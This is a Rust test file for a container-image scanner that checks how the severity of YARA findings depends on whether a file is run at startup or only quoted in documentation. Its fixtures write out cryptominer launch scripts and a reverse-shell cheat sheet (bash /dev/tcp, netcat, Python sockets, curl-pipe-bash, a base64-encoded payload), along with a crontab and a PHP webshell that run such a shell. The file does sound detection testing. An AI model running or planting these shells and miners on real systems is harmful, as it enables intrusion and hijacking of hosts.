//! Where a match sits changes what it means: a file the image's start command runs (directly, or
//! named by a script it runs) is judged as part of the start, one step more severe for the
//! classes whose harm is in running; a payload only quoted in documentation is reported low,
//! with the reason, while the same text in a crontab, a webshell or an executable stays as the
//! rule says. Images built in code.

mod common;

use std::path::PathBuf;

use common::build::{gzip, oci_archive_with, write_temp};
use layerhound::limits::Limits;
use layerhound::scan::yara::RuleSet;
use layerhound::scan::{ContentScanner, Engines};
use layerhound::ScanOptions;
use serde_json::{json, Value};

/// One layer entry: a file with its mode, a symlink, or a whiteout of a path.
enum Entry<'a> {
    File(&'a str, &'a [u8], u32),
    Link(&'a str, &'a str),
    Whiteout(&'a str),
}

fn layer(entries: &[Entry]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for entry in entries {
        let mut header = tar::Header::new_ustar();
        match entry {
            Entry::File(path, body, mode) => {
                header.set_mode(*mode);
                header.set_size(body.len() as u64);
                builder.append_data(&mut header, path, *body).unwrap();
            }
            Entry::Link(path, target) => {
                header.set_entry_type(tar::EntryType::Symlink);
                header.set_mode(0o777);
                header.set_size(0);
                builder.append_link(&mut header, path, target).unwrap();
            }
            Entry::Whiteout(path) => {
                let (dir, name) = path.rsplit_once('/').unwrap_or(("", path));
                let marker = if dir.is_empty() { format!(".wh.{name}") } else { format!("{dir}/.wh.{name}") };
                header.set_mode(0o644);
                header.set_size(0);
                builder.append_data(&mut header, marker, &b""[..]).unwrap();
            }
        }
    }
    builder.into_inner().unwrap()
}

/// Scans a one-image OCI archive of `layers` whose config `config` edits, with the built-in
/// pack or the rule files given.
fn scan(layers: &[Vec<u8>], config: Value, rule_files: &[PathBuf]) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let stored: Vec<(Vec<u8>, Vec<u8>)> = layers.iter().map(|tar| (tar.clone(), tar.clone())).collect();
    let archive = oci_archive_with(&stored, |image| {
        for (key, value) in config.as_object().unwrap() {
            image["config"][key] = value.clone();
        }
    });
    let path = write_temp(&dir, "image.tar", &archive);
    let rules = RuleSet::compile(rule_files, rule_files.is_empty()).unwrap();
    let limits = Limits::default();
    let scanner = ContentScanner::new(Engines::new(&rules, None), &limits);
    let options = ScanOptions { limits: Limits { spill_dir: Some(dir.path().to_path_buf()), ..limits }, ..ScanOptions::default() };
    serde_json::to_value(layerhound::scan(&[path], &options, &scanner, &mut |_| {})).unwrap()
}

/// A finding as the tests look at it.
#[derive(Debug)]
struct Seen {
    rule: String,
    severity: String,
    confidence: String,
    description: String,
    /// (path, state, started_by) per location.
    locations: Vec<(String, String, Option<String>)>,
}

fn seen(report: &Value) -> Vec<Seen> {
    let findings = report["inputs"][0]["images"][0]["findings"].as_array().unwrap();
    findings
        .iter()
        .filter(|f| f["kind"] == "yara")
        .map(|f| Seen {
            rule: f["detector"]["rule"].as_str().unwrap().to_string(),
            severity: f["severity"].as_str().unwrap().to_string(),
            confidence: f["confidence"].as_str().unwrap().to_string(),
            description: f["description"].as_str().unwrap_or_default().to_string(),
            locations: f["locations"]
                .as_array()
                .unwrap()
                .iter()
                .map(|l| (common::place(l), l["state"].as_str().unwrap().to_string(), l["started_by"].as_str().map(str::to_string)))
                .collect(),
        })
        .collect()
}

fn assert_matches_schema(report: &Value) {
    let text = std::fs::read_to_string(common::repo_path("docs/report.schema.json")).unwrap();
    let validator = jsonschema::draft202012::new(&serde_json::from_str(&text).unwrap()).unwrap();
    let errors: Vec<String> = validator.iter_errors(report).map(|err| format!("at {}: {err}", err.instance_path())).collect();
    assert!(errors.is_empty(), "the report does not match docs/report.schema.json:\n{}", errors.join("\n"));
}

/// The one finding of `rule` with a location at `place`.
fn at<'s>(all: &'s [Seen], rule: &str, place: &str) -> &'s Seen {
    let matching: Vec<&Seen> = all.iter().filter(|s| s.rule == rule && s.locations.iter().any(|l| l.0 == place)).collect();
    assert_eq!(matching.len(), 1, "{rule} at {place}: {matching:#?}\nall: {all:#?}");
    matching[0]
}

const RUN_SH: &[u8] = b"#!/bin/sh\nset -e\ncd /opt\n# tune the host first\n./tune.sh >/dev/null 2>&1\n\
exec /opt/xmrig/xmrig -o stratum+tcp://pool.example.net:3333 -u worker1 -p x\n";
const TUNE_SH: &[u8] = b"#!/bin/sh\nnohup /opt/xmrig/xmrig -o stratum+ssl://backup.example.org:443 &\n";
const MINER: &[u8] = b"\x7fELF\x02\x01\x01\x00XMRig 6.21.0\x00donate.v2.xmrig.com\x00randomx\x00cryptonight\x00";
/// Present, a miner launch, run by nothing.
const SPARE_SH: &[u8] = b"#!/bin/sh\nexec /opt/xmrig/xmrig -o stratum+tcp://spare.example.net:5555\n";

fn miner_tree() -> Vec<u8> {
    layer(&[
        Entry::File("opt/run.sh", RUN_SH, 0o755),
        Entry::File("opt/tune.sh", TUNE_SH, 0o755),
        Entry::File("opt/xmrig/xmrig", MINER, 0o755),
        Entry::File("opt/spare.sh", SPARE_SH, 0o755),
    ])
}

#[test]
fn a_miner_launched_through_the_start_script_is_the_image_starting_a_miner() {
    let report = scan(&[miner_tree()], json!({"Cmd": ["/bin/sh", "-c", "/opt/run.sh"]}), &[]);
    assert_matches_schema(&report);
    let all = seen(&report);

    // The script the Cmd runs: its pool URL is the image starting a miner, one step up.
    let run = at(&all, "miner_stratum_pool_url", "/opt/run.sh");
    assert_eq!(run.severity, "critical", "{run:#?}");
    assert!(run.description.contains("started by the image's Cmd: /opt/run.sh"), "{run:#?}");
    assert_eq!(run.locations, [("/opt/run.sh".into(), "present".into(), Some("the image's Cmd".into()))]);

    // What that script runs, one level deep: the script it calls and the miner it execs.
    for (rule, place) in [("miner_stratum_pool_url", "/opt/tune.sh"), ("miner_binary_strings", "/opt/xmrig/xmrig")] {
        let found = at(&all, rule, place);
        assert_eq!(found.severity, "critical", "{found:#?}");
        assert!(found.description.contains("started by the image's Cmd via /opt/run.sh"), "{found:#?}");
        assert_eq!(found.locations[0].2.as_deref(), Some("the image's Cmd via /opt/run.sh"));
    }

    // Present but run by nothing: as the rule says, no start named.
    let spare = at(&all, "miner_stratum_pool_url", "/opt/spare.sh");
    assert_eq!(spare.severity, "high");
    assert!(!spare.description.contains("started"), "{spare:#?}");
    assert_eq!(spare.locations[0].2, None);

    // Each (rule, file) once: the start raises the finding, it does not add one.
    for s in &all {
        assert_eq!(all.iter().filter(|o| o.rule == s.rule && o.locations == s.locations).count(), 1, "{all:#?}");
    }
}

#[test]
fn a_script_that_is_only_present_is_not_started() {
    // The default test config: Cmd ["sh"], which this tree does not even hold.
    let report = scan(&[miner_tree()], json!({}), &[]);
    let all = seen(&report);
    for place in ["/opt/run.sh", "/opt/tune.sh", "/opt/spare.sh"] {
        let found = at(&all, "miner_stratum_pool_url", place);
        assert_eq!(found.severity, "high", "{found:#?}");
        assert!(!found.description.contains("started"), "{found:#?}");
    }
    assert!(all.iter().all(|s| s.locations.iter().all(|l| l.2.is_none())), "{all:#?}");
}

#[test]
fn a_deleted_or_replaced_start_script_is_not_started() {
    let cmd = json!({"Cmd": ["/bin/sh", "-c", "/opt/run.sh"]});
    // Deleted by a whiteout: the Cmd names a path the final tree no longer has.
    let deleted = scan(&[miner_tree(), layer(&[Entry::Whiteout("opt/run.sh")])], cmd.clone(), &[]);
    let all = seen(&deleted);
    let run = at(&all, "miner_stratum_pool_url", "/opt/run.sh");
    assert_eq!((run.severity.as_str(), run.locations[0].1.as_str(), run.locations[0].2.as_deref()), ("high", "deleted", None));
    // Nor is what only the deleted version named.
    assert_eq!(at(&all, "miner_stratum_pool_url", "/opt/tune.sh").severity, "high");

    // Replaced by a harmless script: the old version is overwritten, the new one has no match.
    let replaced = scan(&[miner_tree(), layer(&[Entry::File("opt/run.sh", b"#!/bin/sh\nexec sleep infinity\n", 0o755)])], cmd, &[]);
    let all = seen(&replaced);
    let run = at(&all, "miner_stratum_pool_url", "/opt/run.sh");
    assert_eq!((run.severity.as_str(), run.locations[0].1.as_str(), run.locations[0].2.as_deref()), ("high", "overwritten", None));
}

#[test]
fn the_start_command_is_resolved_through_path_workdir_and_symlinks() {
    let tree = layer(&[
        Entry::Link("usr/local/bin/start", "../../../opt/app/start.sh"),
        Entry::File("opt/app/start.sh", b"#!/usr/bin/env bash\nAPP_MODE=prod bash launch.sh \"$@\"\n", 0o755),
        Entry::File("opt/app/launch.sh", b"exec ./bin/kworker -o stratum+tcp://pool.example.net:3333\n", 0o644),
    ]);
    let config = json!({
        "Entrypoint": ["tini", "--"],
        "Cmd": ["start"],
        "Env": ["PATH=/usr/local/bin:/usr/bin:/bin"],
        "WorkingDir": "/opt/app",
    });
    let all = seen(&scan(&[tree], config, &[]));
    let launch = at(&all, "miner_stratum_pool_url", "/opt/app/launch.sh");
    assert_eq!(launch.severity, "critical", "{launch:#?}");
    assert_eq!(launch.locations[0].2.as_deref(), Some("the image's Entrypoint/Cmd via /opt/app/start.sh"));
}

/// A rule without path guards, as community packs write them: every copy of the one-liner
/// matches, and where it sits decides how it is reported.
const QUOTABLE_RULE: &str = r#"
rule bash_dev_tcp_one_liner
{
    meta:
        description = "bash reverse shell one-liner"
        severity = "critical"
        confidence = "high"
        category = "reverse-shell"
    strings:
        $shell = /bash -i >& \/dev\/tcp\/[0-9.]{7,15}\/[0-9]{2,5} 0>&1/
    condition:
        $shell
}
"#;

const ONE_LINER: &str = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";

#[test]
fn a_payload_quoted_in_documentation_is_low_and_the_same_text_where_it_runs_stays_critical() {
    let dir = tempfile::tempdir().unwrap();
    let rules = write_temp(&dir, "quotable.yar", QUOTABLE_RULE.as_bytes());
    let sheet = format!("# Reverse shells\n\n## Bash\n\n```\n{ONE_LINER}\n```\n");
    let readme = format!("Tools\n=====\nTest egress with `{ONE_LINER}` from a lab host.\n");
    let man = gzip(format!(".TH REVSHELL 1\n.SH EXAMPLES\n{ONE_LINER}\n").as_bytes());
    let cron = format!("* * * * * root {ONE_LINER}\n");
    let php = format!("<?php system(\"{ONE_LINER}\"); ?>\n");
    let html = format!("<html><body><pre>{ONE_LINER}</pre></body></html>\n");
    let example = format!("#!/bin/bash\n{ONE_LINER}\n");
    let notes = format!("Run:\n{ONE_LINER}\n\n");
    let shared = format!("Shared:\n{ONE_LINER}\n");
    let tree = layer(&[
        Entry::File("usr/share/doc/pentest-notes/reverse-shells.md", sheet.as_bytes(), 0o644),
        Entry::File("README.md", readme.as_bytes(), 0o644),
        Entry::File("usr/share/man/man1/revshell.1.gz", &man, 0o644),
        Entry::File("etc/cron.d/x", cron.as_bytes(), 0o644),
        Entry::File("var/www/html/index.php", php.as_bytes(), 0o644),
        Entry::File("var/www/html/docs/guide.html", html.as_bytes(), 0o644),
        Entry::File("usr/share/doc/tool/examples/connect", example.as_bytes(), 0o644),
        Entry::File("opt/notes.md", notes.as_bytes(), 0o755),
        // One blob, two places: documentation in one, a script in the other.
        Entry::File("usr/share/doc/kit/sheet.md", shared.as_bytes(), 0o644),
        Entry::File("opt/kit/sheet.sh", shared.as_bytes(), 0o644),
    ]);
    let all = seen(&scan(&[tree], json!({}), &[rules]));
    let rule = "bash_dev_tcp_one_liner";
    for place in ["/usr/share/doc/pentest-notes/reverse-shells.md", "/README.md", "/usr/share/man/man1/revshell.1.gz!/revshell.1"] {
        let found = at(&all, rule, place);
        assert_eq!((found.severity.as_str(), found.confidence.as_str()), ("low", "low"), "{found:#?}");
        assert!(found.description.contains(&format!("quoted in documentation: {place}")), "{found:#?}");
    }
    for place in [
        "/etc/cron.d/x",
        "/var/www/html/index.php",
        "/var/www/html/docs/guide.html",
        "/usr/share/doc/tool/examples/connect",
        "/opt/notes.md",
        "/opt/kit/sheet.sh",
    ] {
        let found = at(&all, rule, place);
        assert_eq!(found.severity, "critical", "{place}: {found:#?}");
        assert!(!found.description.contains("quoted"), "{found:#?}");
    }
    assert_eq!(at(&all, rule, "/opt/kit/sheet.sh").locations.len(), 2, "the shared blob is one finding with both places");
}

#[test]
fn the_built_in_pack_reports_no_cheat_sheet_high_and_the_crontab_critical() {
    let sheet = format!(
        "# Reverse shell cheat sheet\n\n## Bash\n    {ONE_LINER}\n\n## Netcat\n    nc -e /bin/sh 10.0.0.1 4444\n    \
         rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n\n## Python\n    \
         python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4444));\
         os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);'\n\n\
         ## Download and run\n    curl -s http://10.0.0.1/x.sh | bash\n    echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash\n"
    );
    let tree = layer(&[
        Entry::File("usr/share/doc/pentest-notes/reverse-shells.md", sheet.as_bytes(), 0o644),
        Entry::File("README.md", sheet.as_bytes(), 0o644),
        Entry::File("etc/cron.d/x", format!("* * * * * root {ONE_LINER}\n").as_bytes(), 0o644),
    ]);
    let all = seen(&scan(&[tree], json!({}), &[]));
    let loud: Vec<&Seen> = all
        .iter()
        .filter(|s| s.locations.iter().any(|l| l.0 != "/etc/cron.d/x") && matches!(s.severity.as_str(), "high" | "critical"))
        .collect();
    assert!(loud.is_empty(), "documentation reported high: {loud:#?}");
    assert_eq!(at(&all, "reverse_shell_dev_tcp", "/etc/cron.d/x").severity, "critical");
}
